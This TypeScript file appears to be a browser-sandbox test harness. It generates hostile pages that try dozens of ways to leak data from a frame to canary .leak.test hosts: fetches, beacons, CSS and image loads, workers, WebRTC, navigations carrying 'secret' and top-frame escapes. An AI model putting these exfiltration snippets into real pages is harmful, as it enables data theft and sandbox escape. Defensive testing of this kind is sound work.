import { CANARY } from './canaries.ts'

/** Scripts that each try one way out. `at('name')` is an address whose host no other one uses. */
export const ways: Readonly<Record<string, string>> = {
  fetch: `fetch(at('fetch'), { mode: 'no-cors' })`,
  fetchcors: `fetch(at('fetchcors'))`,
  keepalive: `fetch(at('keepalive'), { mode: 'no-cors', method: 'POST', body: 'x', keepalive: true })`,
  xhr: `const x = new XMLHttpRequest(); x.open('GET', at('xhr')); x.send()`,
  beacon: `navigator.sendBeacon(at('beacon'), 'x')`,
  websocket: `new WebSocket(at('websocket').replace('https', 'wss'))`,
  eventsource: `new EventSource(at('eventsource'))`,
  image: `new Image().src = at('image')`,
  background: `add('<div style="background:url(' + at('background') + ')">x</div>')`,
  import: `add('<style>@import "' + at('import') + '";</style>')`,
  font: `new FontFace('f', 'url(' + at('font') + ')').load()`,
  script: `const s = document.createElement('script'); s.src = at('script'); document.head.append(s)`,
  module: `import(at('module'))`,
  lookup: `link('dns-prefetch', at('lookup'))`,
  preconnect: `link('preconnect', at('preconnect'))`,
  prefetch: `link('prefetch', at('prefetch'))`,
  preload: `const l = document.createElement('link'); l.rel = 'preload'; l.as = 'image'; l.href = at('preload'); document.head.append(l)`,
  modulepreload: `link('modulepreload', at('modulepreload'))`,
  dictionary: `link('compression-dictionary', at('dictionary'))`,
  ping: `add('<a id=pinging href="#here" ping="' + at('ping') + '">x</a>'); pinging.click()`,
  webtransport: `new WebTransport(at('webtransport')).ready.catch(() => 0)`,
  later: `fetchLater(at('later'), { activateAfter: 0 })`,
  cache: `caches.open('c').then((c) => c.add(at('cache')))`,
  stylesheet: `link('stylesheet', at('stylesheet'))`,
  fontface: `add('<style>@font-face { font-family: g; src: url(' + at('fontface') + ') } #g { font-family: g }</style><p id=g>x</p>')`,
  cursor: `add('<style>body { cursor: url(' + at('cursor') + '), auto }</style>')`,
  mask: `add('<div style="mask: url(' + at('mask') + '); width: 9px; height: 9px"></div>')`,
  imageset: `add('<div style="background: image-set(url(' + at('imageset') + ') 1x)">x</div>')`,
  srcset: `add('<img srcset="' + at('srcset') + ' 1x">')`,
  svgimage: `add('<svg width=9 height=9><image href="' + at('svgimage') + '" width=9 height=9 /></svg>')`,
  feimage: `add('<svg width=9 height=9><filter id=f><feImage href="' + at('feimage') + '"/></filter><rect width=9 height=9 filter="url(#f)"/></svg>')`,
  video: `add('<video src="' + at('video') + '" preload=auto></video>')`,
  poster: `add('<video poster="' + at('poster') + '"></video>')`,
  audio: `new Audio(at('audio')).load()`,
  embed: `add('<embed src="' + at('embed') + '">')`,
  input: `add('<input type=image src="' + at('input') + '">')`,
  worker: `new Worker(URL.createObjectURL(new Blob(['fetch("' + at('worker') + '")'])))`,
  dataworker: `new Worker('data:text/javascript,fetch("' + at('dataworker') + '")')`,
  frame: `add('<iframe src="' + at('frame') + '"></iframe>')`,
  object: `add('<object data="' + at('object') + '"></object>')`,
  srcdoc: `const f = document.createElement('iframe'); f.srcdoc = '<img src="' + at('srcdoc') + '">'; document.body.append(f)`,
  srcdocfetch: `const f = document.createElement('iframe'); f.srcdoc = '<script>fetch("' + at('srcdocfetch') + '")<' + '/script>'; document.body.append(f)`,
  blankfetch: `const f = document.createElement('iframe'); document.body.append(f); f.contentWindow.fetch(at('blankfetch'))`,
  blank: `const f = document.createElement('iframe'); document.body.append(f); f.contentDocument.head.innerHTML = '<link rel=dns-prefetch href="' + at('blank') + '">'`,
  wss: `new WebSocketStream(at('wss').replace('https', 'wss')).opened.catch(() => 0)`,
  body: `document.body.setAttribute('background', at('body'))`,
  dataframe: `const f = document.createElement('iframe'); f.src = 'data:text/html,<img src="' + at('dataframe') + '">'; document.body.append(f)`,
  scriptframe: `const f = document.createElement('iframe'); f.src = 'javascript:fetch("' + at('scriptframe') + '")'; document.body.append(f)`,
  credentialless: `add('<iframe credentialless src="' + at('credentialless') + '"></iframe>')`,
  importscripts: `new Worker(URL.createObjectURL(new Blob(['importScripts("' + at('importscripts') + 'x.js")'])))`,
  sharedworker: `new SharedWorker(URL.createObjectURL(new Blob(['fetch("' + at('sharedworker') + '")'])))`,
  audioworklet: `new AudioContext().audioWorklet.addModule(at('audioworklet')).catch(() => 0)`,
  paintworklet: `CSS.paintWorklet.addModule(at('paintworklet')).catch(() => 0)`,
  blobframe: `const f = document.createElement('iframe'); f.src = URL.createObjectURL(new Blob(['<img src="' + at('blobframe') + '">'], { type: 'text/html' })); document.body.append(f)`,
}

/** Ways that load nothing in the plain frame of the control either (Chromium 156): they are tried, and prove little. */
export const silentWays: Readonly<Record<string, string>> = {
  icon: `link('icon', at('icon'))`,
  manifest: `link('manifest', at('manifest'))`,
  prerender: `link('prerender', at('prerender'))`,
  speculation: `const s = document.createElement('script'); s.type = 'speculationrules'; s.text = JSON.stringify({ prefetch: [{ urls: [at('speculation')] }], prerender: [{ urls: [at('speculation')] }] }); document.head.append(s)`,
  svguse: `add('<svg><use href="' + at('svguse') + '#x"/></svg>')`,
  track: `add('<video><track default src="' + at('track') + '"></video>')`,
  reporting: `document.head.insertAdjacentHTML('beforeend', '<meta http-equiv=Reporting-Endpoints content="d=&quot;' + at('reporting') + '&quot;"><meta http-equiv=NEL content="{}">')`,
}

/** Navigations, each in a page of its own, because it replaces it. They begin with a press of the person, so that windows may open too. */
const navigations: Readonly<Record<string, string>> = {
  location: `location.href = at('location') + '?d=secret'`,
  link: `add('<a id=z href="' + at('link') + '?d=secret">x</a>'); z.click()`,
  linkblank: `add('<a id=z target=_blank href="' + at('linkblank') + '">x</a>'); z.click()`,
  linknoopener: `add('<a id=z target=_blank rel=noopener href="' + at('linknoopener') + '">x</a>'); z.click()`,
  download: `add('<a id=z download href="' + at('download') + '?d=secret">x</a>'); z.click()`,
  navigate: `navigation.navigate(at('navigate') + '?d=secret').committed.catch(() => 0)`,
  form: `add('<form id=z method=post action="' + at('form') + '"><input name=d value=secret></form>'); z.submit()`,
  formget: `add('<form id=z action="' + at('formget') + '"><input name=d value=secret></form>'); z.submit()`,
  formblank: `add('<form id=z target=_blank action="' + at('formblank') + '"></form>'); z.submit()`,
  refresh: `document.head.insertAdjacentHTML('beforeend', '<meta http-equiv=refresh content="0;url=' + at('refresh') + '">')`,
  open: `open(at('open'))`,
  blobself: `location = URL.createObjectURL(new Blob(['<script>location="' + at('blobself') + '"<' + '/script>'], { type: 'text/html' }))`,
  dataself: `location = 'data:text/html,<script>location="' + at('dataself') + '"<' + '/script>'`,
  nested: `const f = document.createElement('iframe'); document.body.append(f); f.contentWindow.location = at('nested')`,
  nestedrefresh: `const f = document.createElement('iframe'); f.srcdoc = '<meta http-equiv=refresh content="0;url=' + at('nestedrefresh') + '">'; document.body.append(f)`,
}

/** Navigations of the window around the page. */
const escapes: Readonly<Record<string, string>> = {
  top: `top.location = at('top') + '?d=secret'`,
  parent: `parent.location = at('parent') + '?d=secret'`,
  linktop: `add('<a id=z target=_top href="' + at('linktop') + '?d=secret">x</a>'); z.click()`,
  linkparent: `add('<a id=z target=_parent href="' + at('linkparent') + '?d=secret">x</a>'); z.click()`,
  formtop: `add('<form id=z target=_top action="' + at('formtop') + '"></form>'); z.submit()`,
}

/** Makes a peer connection, with a port and a name of its own for each realm. */
const connect = (port: number, name: string): string =>
  `(Peer) => { const turn = { username: 'secret', credential: 'c' }; const p = new Peer({ iceServers: [{ urls: 'stun:${CANARY}:${port}' }, { urls: 'turn:${CANARY}:${port}?transport=tcp', ...turn }, { urls: 'stun:${name}:${port}' }] }); p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o)); (window.kept ??= []).push(p) }`
const frameWith = (code: string): string => `const f = document.createElement('iframe'); ${code}`
const scriptOf = (make: string): string => `'<script>(' + ${JSON.stringify(make)} + ')(RTCPeerConnection)<' + '/script>'`

/** Peer connections in every realm that a document can make, by realm. */
const realms: Readonly<Record<string, (make: string) => string>> = {
  main: (make) => `(${make})(RTCPeerConnection)`,
  webkit: (make) => `(${make})(window.webkitRTCPeerConnection || RTCPeerConnection)`,
  blank: (make) => frameWith(`document.body.append(f); (${make})(f.contentWindow.RTCPeerConnection)`),
  srcdoc: (make) => frameWith(`f.srcdoc = ${scriptOf(make)}; document.body.append(f)`),
  blob: (make) => frameWith(`f.src = URL.createObjectURL(new Blob([${scriptOf(make)}], { type: 'text/html' })); document.body.append(f)`),
  javascript: (make) => frameWith(`f.src = 'javascript:(' + ${JSON.stringify(make)} + ')(RTCPeerConnection)'; document.body.append(f)`),
  written: (make) =>
    frameWith(`document.body.append(f); f.contentDocument.open(); f.contentDocument.write(${scriptOf(make)}); f.contentDocument.close()`),
}

/** A place of hostile pages, whose names and ports no other place has, so that all can be heard at once. */
export interface Place {
  /** A label of every name. */
  readonly label: string
  /** The first of its `PORTS` ports. */
  readonly port: number
}

/** What the ports of a place are for: one for each realm of peer connections, and one for connections without a name. */
export const realmNames = Object.keys(realms)
export const PORTS = realmNames.length + 1

export interface HostilePage {
  readonly html: string
  /** It waits for a press. */
  readonly isPressed: boolean
  /** It wants to replace the page around it. */
  readonly escapes: boolean
}

/** The names that the pages of a place use. */
export const hostOf = (name: string, { label }: Place): string => `${name}.${label}.leak.test`

/** Pure: the hostile pages of a place, by what they try. */
export function hostilePages(place: Place): Readonly<Record<string, HostilePage>> {
  const atOnce = (codes: readonly string[]): HostilePage => ({
    html: page(place, codes.map(attempt).join('\n')),
    isPressed: false,
    escapes: false,
  })
  const onPress = (code: string, escapes: boolean): HostilePage => ({
    html: page(place, `addEventListener('pointerdown', () => { parent.postMessage('pressed', '*'); ${attempt(code)} }, { once: true })`),
    isPressed: true,
    escapes,
  })
  const named = (codes: Readonly<Record<string, string>>, escapes: boolean): readonly (readonly [string, HostilePage])[] =>
    Object.entries(codes).map(([name, code]) => [name, onPress(code, escapes)])
  const direct = `https://${CANARY}:${place.port + realmNames.length}/`
  const peers = Object.entries(realms).map(([realm, code], index) => {
    return [`peer ${realm}`, atOnce([code(connect(place.port + index, hostOf(`stun${realm}`, place)))])] as const
  })
  return {
    resources: atOnce(Object.values(ways)),
    silent: atOnce(Object.values(silentWays)),
    direct: atOnce([`fetch('${direct}', { mode: 'no-cors' })`, `new WebTransport('${direct}').ready.catch(() => 0)`]),
    ...Object.fromEntries([...peers, ...named(navigations, false), ...named(escapes, true)]),
  }
}

/** The names of what is heard of navigations. */
export const navigationNames = [...Object.keys(navigations), ...Object.keys(escapes)]

const page = (
  { label }: Place,
  body: string,
): string => `<!doctype html><style>html, body { height: 100%; margin: 0 }</style><body>hostile<script>
const at = (name) => 'https://' + name + '.${label}.leak.test/'
const add = (html) => document.body.insertAdjacentHTML('beforeend', html)
const link = (rel, href) => { const l = document.createElement('link'); l.rel = rel; l.href = href; document.head.append(l) }
addEventListener('unhandledrejection', (event) => event.preventDefault())
parent.postMessage('alive', '*')
${body}</script>`

const attempt = (code: string): string => `try { (() => { ${code} })() } catch {}`

/** What a page with a granted host sends to it, beside everything else. */
export const toGranted = (host: string): string =>
  `<script>fetch('https://${host}/', { mode: 'no-cors' }).catch(() => 0); new Image().src = 'https://${host}/i'</script>`
